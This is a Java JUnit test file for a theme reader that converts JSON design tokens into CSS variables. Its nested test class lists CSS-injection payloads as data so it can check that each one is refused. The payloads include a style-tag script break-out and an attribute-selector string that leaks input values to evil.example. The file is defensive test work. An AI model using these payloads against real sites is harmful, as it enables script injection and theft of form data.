package org.folkmoot.councils.brand;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import java.util.Random;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.folkmoot.kernel.Bytes;
import org.folkmoot.kernel.MalformedInput;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

class ThemeReaderTest {

  /** The only lines that a brand's style sheet can consist of. */
  private static final Pattern LINE =
      Pattern.compile(
          "@layer council \\{|@media \\(prefers-color-scheme: dark\\) \\{|\\}|"
              + ":root(:not\\(\\[data-theme=\"light\"\\]\\)|\\[data-theme=\"dark\"\\])? \\{|"
              + "  --fm-[a-z0-9-]+: (#[0-9a-f]{6}|-?[0-9.]+(px|rem|em)?|[a-z-]+|"
              + "[a-zA-Z\", -]+(sans-)?serif);");

  @Test
  void colorsMayReferToPrimitives() {
    Theme theme =
        read(
            """
            {"primitive": {"sea": {"$type": "color", "$value": "#005c7e"}},
             "light": {"$type": "color", "primary": {"$value": "{primitive.sea}"}},
             "dark": {"primary": {"$value": "#7fd0ec"}}}""");

    assertThat(theme.light())
        .containsExactly(java.util.Map.entry(ColorRole.PRIMARY, color("#005c7e")));
    assertThat(theme.dark())
        .containsExactly(java.util.Map.entry(ColorRole.PRIMARY, color("#7fd0ec")));
  }

  @Test
  void lengthsNumbersFamiliesAndKeywordsAreWrittenAnew() {
    Theme theme =
        read(
            """
            {"shape": {"radius-s": {"$type": "dimension", "$value": {"value": 0.0, "unit": "px"}},
                       "header-space": {"$value": {"value": 1.50, "unit": "rem"}},
                       "density": {"$type": "number", "$value": 0.88}},
             "type": {"heading-weight": {"$type": "fontWeight", "$value": 800},
                      "heading-tracking": {"$value": -0.025},
                      "font-heading": {"$type": "fontFamily", "$value": "modern-serif"}},
             "$extensions": {"org.folkmoot": {"header-direction": "column"}}}""");

    assertThat(theme.shapes())
        .containsEntry("--fm-radius-s", "0px")
        .containsEntry("--fm-header-space", "1.5rem")
        .containsEntry("--fm-density", "0.88")
        .containsEntry("--fm-heading-weight", "800")
        .containsEntry("--fm-heading-tracking", "-0.025em")
        .containsEntry("--fm-header-direction", "column")
        .containsEntry(
            "--fm-font-heading", "Charter, \"Bitstream Charter\", Cambria, Georgia, serif");
  }

  /** W-4: a value that is anything but its type never becomes CSS. */
  @Nested
  class AnAttackInAValue {

    static Stream<String> attacks() {
      return Stream.of(
          "url(https://evil.example/x)",
          "@import 'https://evil.example/x.css'",
          "expression(alert(1))",
          "</style><script>alert(1)</script>",
          "\\3c/style\\3e",
          "red;} input[value^=a]{background:url(//evil.example/a)",
          "#ffffff;}*{display:none",
          "#ffffff/*",
          "var(--fm-color-danger)",
          "{primitive.absent}",
          "{light.primary}",
          "\u0000#ffffff",
          "＃ffffff");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void isRefusedAsAColor(String attack) {
      assertRefused("{\"light\": {\"primary\": {\"$value\": %s}}}", attack, "light.primary");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void isRefusedAsAFamilyOfType(String attack) {
      assertRefused("{\"type\": {\"font-body\": {\"$value\": %s}}}", attack, "type.font-body");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void isRefusedAsAKeyword(String attack) {
      assertRefused(
          "{\"$extensions\": {\"org.folkmoot\": {\"nav-align\": %s}}}",
          attack, "org.folkmoot.nav-align");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void isRefusedAsALength(String attack) {
      assertRefused("{\"shape\": {\"radius-s\": {\"$value\": %s}}}", attack, "shape.radius-s");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void isRefusedAsAUnit(String attack) {
      assertRefused(
          "{\"shape\": {\"radius-s\": {\"$value\": {\"value\": 1, \"unit\": %s}}}}",
          attack, "shape.radius-s");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void isRefusedAsAName(String attack) {
      assertThatThrownBy(
              () -> read("{\"light\": {%s: {\"$value\": \"#ffffff\"}}}".formatted(quoted(attack))))
          .isInstanceOf(MalformedInput.class)
          .hasMessageContaining("no such color token");
    }

    private void assertRefused(String json, String attack, String path) {
      assertThatThrownBy(() -> read(json.formatted(quoted(attack))))
          .isInstanceOfSatisfying(
              MalformedInput.class, refusal -> assertThat(refusal.field()).isEqualTo(path));
    }
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "[]                                                        | expected one JSON object",
        "{\"light\": {                                             | line 1: expected one JSON",
        "{\"light\": 1}                                            | light: expected an object",
        "{\"middle\": {}}                                          | middle: no such group",
        "{\"light\": {\"primry\": {\"$value\": \"#ffffff\"}}}      | light.primry: no such color",
        "{\"light\": {\"primary\": \"#ffffff\"}}                   | primary: expected an object",
        "{\"light\": {\"primary\": {}}}                            | primary: expected a $value",
        "{\"light\": {\"primary\": {\"$value\": 1}}}               | expected a text",
        "{\"light\": {\"$type\": \"number\"}}                      | expected the type color",
        "{\"light\": {\"primary\": {\"$value\": \"#ffffff\", \"x\": 1}}} | expected $value, $type",
        "{\"light\": {}, \"light\": {}}                            | without double keys",
        "{\"shape\": {\"density\": {\"$value\": 9}}}               | a number from 0.85 to 1.2",
        "{\"shape\": {\"density\": {\"$value\": 1e-400}}}          | a number from 0.85 to 1.2",
        "{\"shape\": {\"density\": {\"$value\": 1e999999}}}        | a number from 0.85 to 1.2",
        "{\"shape\": {\"radius-s\": {\"$value\": {\"value\": 1, \"unit\": \"em\"}}}} | 0 to 12 px",
        "{\"type\": {\"heading-weight\": {\"$value\": 410}}}       | steps of 50",
        "{\"$extensions\": {\"com.example\": {}}}                  | expected org.folkmoot only"
      })
  void whatIsNotAThemeIsRefusedWithItsPlace(String json, String message) {
    assertThatThrownBy(() -> read(json))
        .isInstanceOf(MalformedInput.class)
        .hasMessageContaining(message);
  }

  @Test
  void theStyleSheetConsistsOfKnownLinesWhateverWasTried() {
    long seed = new Random().nextLong();
    Random random = new Random(seed);
    List<String> values =
        Stream.concat(AnAttackInAValue.attacks(), Stream.of("#a1b2c3", "center", "system-sans"))
            .toList();

    int accepted = 0;
    for (int i = 0; i < 2_000; i++) {
      String value = values.get(random.nextInt(values.size()));
      String cut = value.substring(random.nextInt(value.length()) / 3);
      String json =
          "{\"light\": {\"primary\": {\"$value\": %1$s}}, \"dark\": {\"line\": {\"$value\": %1$s}}}";
      try {
        Theme theme = read(json.formatted(quoted(cut)));
        accepted++;
        assertThat(theme.css().lines()).as("seed %d", seed).allMatch(LINE.asMatchPredicate());
      } catch (MalformedInput expected) {
        assertThat(expected.field()).as("seed %d", seed).isIn("light.primary", "dark.line");
      }
    }

    assertThat(accepted).as("seed %d", seed).isPositive();
  }

  private static Theme read(String json) {
    return ThemeReader.read("theme.json", Bytes.ofUtf8(json));
  }

  private static Color color(String text) {
    return ColorTest.color(text);
  }

  private static String quoted(String text) {
    return jakarta.json.Json.createValue(text).toString();
  }
}
